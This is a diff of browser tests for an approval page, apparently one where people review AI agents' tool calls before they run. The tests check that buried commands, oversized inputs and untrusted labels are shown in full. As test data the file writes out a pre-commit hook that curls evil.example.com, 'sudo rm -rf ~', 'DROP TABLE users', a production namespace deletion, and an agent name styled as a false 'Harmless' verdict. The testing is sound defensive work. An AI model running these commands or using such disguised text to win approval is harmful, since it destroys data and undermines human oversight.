@@ -1,38 +1,38 @@
 // Calls written so that an approve would cover more than was seen: nothing is answered that was not in view.
 import { byFrames, stopClock, withClock } from '../lib/clock.js';
 import { approved } from '../lib/reading.js';
-import { type Page, type Stage, expect, test } from '../lib/test.js';
+import { type Page, type Harness, expect, test } from '../lib/test.js';
 
 const focus = (page: Page) => page.getByRole('region', { name: 'Selected question' });
 const ready = (page: Page) => expect(focus(page).getByRole('button', { name: /^Approve/ }).first()).toHaveAttribute('aria-disabled', 'false');
-const stateOf = async (stage: Stage, id: string) => (await stage.as('admin').approvals.show(id)).state;
+const stateOf = async (harness: Harness, id: string) => (await harness.as('admin').approvals.show(id)).state;
 
-async function look(page: Page, stage: Stage, id: string): Promise<void> {
-  if (page.url() === 'about:blank') await stage.signIn(page);
-  await page.goto(`${stage.address}/approvals/${id}`);
+async function look(page: Page, harness: Harness, id: string): Promise<void> {
+  if (page.url() === 'about:blank') await harness.signIn(page);
+  await page.goto(`${harness.address}/approvals/${id}`);
   await ready(page);
 }
 
-test('blank lines are folded, so that what follows them is in view, and every danger is said', async ({ page, stage }) => {
-  const asked = await stage.bash(`git push origin main${'\n'.repeat(60)}python3 -c "print(1)"`);
-  await look(page, stage, asked.id);
+test('blank lines are folded, and every danger is shown', async ({ page, harness }) => {
+  const asked = await harness.bash(`git push origin main${'\n'.repeat(60)}python3 -c "print(1)"`);
+  await look(page, harness, asked.id);
   const command = focus(page).getByRole('group', { name: 'Command' });
   await expect(command.getByText('python3')).toBeInViewport();
   await command.getByRole('button', { name: '59 empty lines' }).click();
   await expect(command.getByRole('button', { name: '59 empty lines' })).toHaveCount(0);
   await expect(focus(page).getByRole('button', { name: /more lines below$/ })).toBeVisible();
-  const said = (await stage.as('admin').approvals.show(asked.id)) as { shown: { form: { parts: { danger?: { level: string; why: string } }[] } } };
+  const said = (await harness.as('admin').approvals.show(asked.id)) as { shown: { form: { parts: { danger?: { level: string; why: string } }[] } } };
   for (const { danger } of said.shown.form.parts) {
     if (danger !== undefined && danger.level !== 'none') await expect(focus(page).getByText(new RegExp(danger.why.slice(1), 'i')).first()).toBeVisible();
   }
 });
 
-test('the first yes to a command that goes on below shows what comes next, and only the one after its end answers', async ({ page, stage }) => {
+test('approving a long command scrolls to its end before it answers', async ({ page, harness }) => {
   const lines = Array.from({ length: 60 }, (_, line) => `echo line ${line} >> log.txt`);
   lines[22] = 'othertool --evil';
-  const asked = await stage.bash(`${lines.join('\n')}\ngit push origin last`);
+  const asked = await harness.bash(`${lines.join('\n')}\ngit push origin last`);
   await withClock(page);
-  await look(page, stage, asked.id);
+  await look(page, harness, asked.id);
   const command = focus(page).getByRole('group', { name: 'Command' });
   const last = command.getByText('git push origin last');
   await expect(focus(page).getByText('There is more below')).toBeVisible();
@@ -44,34 +44,34 @@ test('the first yes to a command that goes on below shows what comes next, and o
   await byFrames(page, () => expect(command.getByText('othertool --evil')).toBeInViewport({ timeout: 100 }));
   await page.clock.runFor(300);
   await page.keyboard.press('a');
-  expect(await stateOf(stage, asked.id)).toBe('pending');
+  expect(await stateOf(harness, asked.id)).toBe('pending');
   await page.clock.resume();
-  const { presses, seen } = await approved(page, stage, asked, [command.getByText('echo line 45'), last]);
+  const { presses, seen } = await approved(page, harness, asked, [command.getByText('echo line 45'), last]);
   expect(seen).toEqual([true, true]);
   expect(presses).toBeLessThan(6);
-  expect(await asked.told).toMatchObject({ behavior: 'allow' });
+  expect(await asked.permission).toMatchObject({ behavior: 'allow' });
 });
 
-test('so does one to an input that is listed: each box, and the last name', async ({ page, stage }) => {
+test('approving a listed input shows each box and the last field first', async ({ page, harness }) => {
   const first = `${Array.from({ length: 60 }, (_, line) => `line ${line}`).join('\n')}\nthe last line`;
   const more = Object.fromEntries(Array.from({ length: 10 }, (_, at) => [`more${at}`, 'y'.repeat(190)]));
-  const asked = await stage.ask('run_query', { first, ...more, sql: 'DROP TABLE users' }, { serverId: 'db' });
-  await look(page, stage, asked.id);
+  const asked = await harness.ask('run_query', { first, ...more, sql: 'DROP TABLE users' }, { serverId: 'db' });
+  await look(page, harness, asked.id);
   const list = focus(page).getByRole('group', { name: 'Input' });
   await expect(focus(page).getByText('There is more below')).toBeVisible();
   const drop = list.getByText('DROP TABLE users');
   await expect(drop).not.toBeInViewport();
   await page.keyboard.press('a');
-  const { seen } = await approved(page, stage, asked, [list.getByRole('term').filter({ hasText: 'more5' }), drop]);
+  const { seen } = await approved(page, harness, asked, [list.getByRole('term').filter({ hasText: 'more5' }), drop]);
   expect(seen).toEqual([true, true]);
 });
 
-test('a group ticks only what it shows whole', async ({ page, stage }) => {
-  await stage.bash('npm test # run the suite, then tidy up:\nmake deploy PROD=1');
-  await stage.ask('Write', { file_path: '/home/u/proj/.git/hooks/pre-commit', content: '#!/bin/sh\ncurl https://evil.example.com\n' });
-  await stage.ask('run_query', { note: 'x'.repeat(4200), sql: 'DROP TABLE users' }, { serverId: 'db' });
-  await stage.bash('git push origin main');
-  await stage.signIn(page);
+test('a bulk review preselects only questions that it shows completely', async ({ page, harness }) => {
+  await harness.bash('npm test # run the suite, then tidy up:\nmake deploy PROD=1');
+  await harness.ask('Write', { file_path: '/home/u/proj/.git/hooks/pre-commit', content: '#!/bin/sh\ncurl https://evil.example.com\n' });
+  await harness.ask('run_query', { note: 'x'.repeat(4200), sql: 'DROP TABLE users' }, { serverId: 'db' });
+  await harness.bash('git push origin main');
+  await harness.signIn(page);
   await page.getByRole('checkbox', { name: 'Select all shown' }).click();
   await page.getByRole('button', { name: 'Approve…', exact: true }).first().click();
   const dialog = page.getByRole('dialog', { name: 'Approve 4 questions?' });
@@ -83,10 +83,10 @@ test('a group ticks only what it shows whole', async ({ page, stage }) => {
   expect(shown.split('\n')).toContain('make deploy PROD=1');
 });
 
-test('an edit that makes it dangerous has to be approved twice; one that cannot be judged as well', async ({ page, stage, watch }) => {
+test('a dangerous or unjudged edit must be approved twice', async ({ page, harness, watch }) => {
   watch.expects(/503/);
-  const asked = await stage.bash('npm run clean');
-  await look(page, stage, asked.id);
+  const asked = await harness.bash('npm run clean');
+  await look(page, harness, asked.id);
   await page.keyboard.press('e');
   const field = focus(page).getByRole('textbox').first();
   const take = focus(page).getByRole('button', { name: 'Approve with changes' });
@@ -100,15 +100,15 @@ test('an edit that makes it dangerous has to be approved twice; one that cannot 
   await field.fill('sudo rm -rf ~');
   await take.click();
   await expect(focus(page).getByRole('heading', { name: 'This is dangerous' })).toBeVisible();
-  expect(await stateOf(stage, asked.id)).toBe('pending');
+  expect(await stateOf(harness, asked.id)).toBe('pending');
   await anyway.click();
-  expect(await asked.told).toMatchObject({ behavior: 'allow', updatedInput: { command: 'sudo rm -rf ~' } });
+  expect(await asked.permission).toMatchObject({ behavior: 'allow', updatedInput: { command: 'sudo rm -rf ~' } });
 });
 
-test('names do not speak for the page', async ({ page, stage }) => {
+test('untrusted names are not shown as text of the page', async ({ page, harness }) => {
   const agentId = '✓ Harmless. Checked by sekisho: this tool is on the trusted list';
-  const asked = await stage.ask('demo', { command: 'kubectl delete ns production' }, { serverId: 'x', agentId, workspaceId: 'no rule objects to it' });
-  await look(page, stage, asked.id);
+  const asked = await harness.ask('demo', { command: 'kubectl delete ns production' }, { serverId: 'x', agentId, workspaceId: 'no rule objects to it' });
+  await look(page, harness, asked.id);
   const article = page.getByRole('article');
   for (const label of ['agent: ✓ Harmless. Checked by sekisho', 'workspace: no rule objects to it', 'tool: demo']) {
     const name = article.locator('.claim').filter({ hasText: label }).locator('code');
@@ -119,10 +119,10 @@ test('names do not speak for the page', async ({ page, stage }) => {
   await expect(article.locator('header .callout, header .badge')).toHaveCount(0);
 });
 
-test('a diff made to be slow to compare does not hold up the page', async ({ page, stage }) => {
+test('a diff that is slow to compare does not block the page', async ({ page, harness }) => {
   const unlike = (set: string) => Array.from({ length: 100 }, (_, line) => Array.from({ length: 590 }, (_, at) => set[(at * at * (line + 1) + at) % set.length]).join('')).join('\n');
-  const asked = await stage.ask('Edit', { file_path: '/tmp/none', old_string: unlike('!#%&*+'), new_string: unlike('?@^~=|') });
-  await look(page, stage, asked.id);
+  const asked = await harness.ask('Edit', { file_path: '/tmp/none', old_string: unlike('!#%&*+'), new_string: unlike('?@^~=|') });
+  await look(page, harness, asked.id);
   const longest = await page.evaluate(() => new Promise<number>((tell) => {
     const observer = new PerformanceObserver((list) => tell(Math.max(...list.getEntries().map((entry) => entry.duration))));
     observer.observe({ type: 'longtask', buffered: true });
@@ -130,7 +130,7 @@ test('a diff made to be slow to compare does not hold up the page', async ({ pag
   }));
   // It once took five seconds. Times depend on the machine; the work is bounded by `Budget`, whose test has a
   // clock.
-  console.log(`a diff made to be slow to compare: the page was held up for ${longest} ms at most`);
+  console.log(`a diff that is slow to compare: the page was blocked for ${longest} ms at most`);
   await expect(page.locator('.answers')).toBeVisible();
   await expect(page.getByRole('region', { name: '/tmp/none' }).locator('mark')).toHaveCount(0);
 });
